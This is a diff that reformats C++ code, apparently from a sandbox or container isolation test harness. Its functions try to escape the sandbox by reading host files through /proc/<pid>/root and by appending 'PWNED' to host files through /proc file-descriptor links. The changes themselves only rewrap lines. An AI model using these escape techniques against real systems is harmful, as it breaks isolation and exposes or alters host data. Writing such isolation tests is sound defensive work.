@@ -55,7 +55,9 @@ struct Grabbed {
   ino_t ino;
 };
 
-bool same_file(const struct stat& a, const struct stat& b) { return a.st_dev == b.st_dev && a.st_ino == b.st_ino; }
+bool same_file(const struct stat& a, const struct stat& b) {
+  return a.st_dev == b.st_dev && a.st_ino == b.st_ino;
+}
 
 int attack_exe(double seconds) {
   struct stat self, busybox;
@@ -101,12 +103,14 @@ int attack_root(const std::string& path, double seconds) {
   double end = now() + seconds;
   while (now() < end) {
     for (int pid : other_pids()) {
-      int fd = open(("/proc/" + std::to_string(pid) + "/root" + path).c_str(), O_RDONLY | O_CLOEXEC);
+      int fd =
+          open(("/proc/" + std::to_string(pid) + "/root" + path).c_str(), O_RDONLY | O_CLOEXEC);
       if (fd < 0) continue;
       char buf[256] = {};
       ssize_t n = read(fd, buf, sizeof buf - 1);
       close(fd);
-      std::printf("read the host's %s through /proc/%d/root: %s\n", path.c_str(), pid, n > 0 ? buf : "");
+      std::printf("read the host's %s through /proc/%d/root: %s\n", path.c_str(), pid,
+                  n > 0 ? buf : "");
       return 0;
     }
   }
@@ -128,7 +132,8 @@ int attack_fds(const std::string& prefix, double seconds) {
         if (n <= 0 || std::string(target, static_cast<size_t>(n)).rfind(prefix, 0) != 0) continue;
         int fd = open(link.c_str(), O_WRONLY | O_APPEND | O_CLOEXEC);
         if (fd >= 0 && write(fd, "PWNED\n", 6) == 6) {
-          std::printf("wrote to the host's %.*s through %s\n", static_cast<int>(n), target, link.c_str());
+          std::printf("wrote to the host's %.*s through %s\n", static_cast<int>(n), target,
+                      link.c_str());
           closedir(d);
           return 0;
         }
